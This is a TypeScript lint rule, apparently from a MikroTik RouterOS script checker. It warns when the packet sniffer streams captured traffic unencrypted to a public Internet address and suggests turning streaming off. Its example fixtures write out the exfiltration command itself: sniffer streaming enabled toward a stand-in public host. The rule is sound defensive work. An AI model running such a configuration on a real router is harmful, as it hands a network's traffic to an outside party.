import { defineRule } from '../rule';
import { isYes } from '../support/items';
import { isStrangeAddress } from '../support/publicAddresses';
import { reportSettings, settledValue, switchedOff } from '../support/writtenSettings';

const menu = '/tool/sniffer';

export default defineRule({
  id: 'sniffer-streaming',
  category: 'security',
  severity: 'warning',
  risk: 'high',
  since: '0.1.0',
  recommended: true,
  summary: 'The packet sniffer sends the traffic of the network to the Internet',
  why: `With \`streaming-enabled=yes\` the sniffer sends a copy of what it sees to \`streaming-server\`, unencrypted, for as long as it runs. A server on the Internet gets the traffic of your network: that is what intruders set up. A server in a private network is not reported.`,
  references: [
    'CWE-200',
    'CWE-319',
    'https://manual.mikrotik.com/docs/diagnostics-monitoring-and-troubleshooting/packet-sniffer',
  ],
  fix: 'suggestion',
  examples: [
    {
      bad: '/tool sniffer set streaming-enabled=yes streaming-server=203.0.113.9',
      fixed: '/tool sniffer set streaming-enabled=no streaming-server=203.0.113.9',
      good: '/tool sniffer set streaming-enabled=yes streaming-server=192.168.88.10',
    },
    {
      bad: '/tool sniffer\nset streaming-server=203.0.113.9:37008\nset streaming-enabled=yes',
      fixed: '/tool sniffer\nset streaming-server=203.0.113.9:37008\nset streaming-enabled=no',
      good: '/tool sniffer\nset streaming-server=203.0.113.9:37008',
    },
  ],
  silent: [
    { script: '/tool sniffer set streaming-enabled=yes', because: 'Where it goes may be set elsewhere' },
    {
      script: '/tool sniffer set streaming-enabled=yes streaming-server=$analyser',
      because: 'The value is only known on the router',
    },
    { script: '/tool sniffer set filter-ip-address=203.0.113.9', because: 'A filter, not a receiver' },
    {
      script:
        '/ip address add address=203.0.113.1/24 interface=servers\n/tool sniffer set streaming-enabled=yes streaming-server=203.0.113.9',
      because: 'A network of one’s own, though its addresses are public',
    },
  ],
  menus: [menu],
  check(context) {
    const { script } = context;
    reportSettings(context, {
      menu,
      property: 'streaming-enabled',
      matches: (value, item) =>
        isYes(value) && isStrangeAddress(script, settledValue(script, menu, item, 'streaming-server') ?? ''),
      message: () =>
        'The packet sniffer sends the traffic that it sees to an address of the Internet, unencrypted. If you did not set this up yourself, look for an intruder. Set streaming-enabled=no, or stream to a host of your own network.',
      fixes: switchedOff('Stream nothing (a collector of your own gets nothing any more)', 'suggestion'),
    });
  },
});
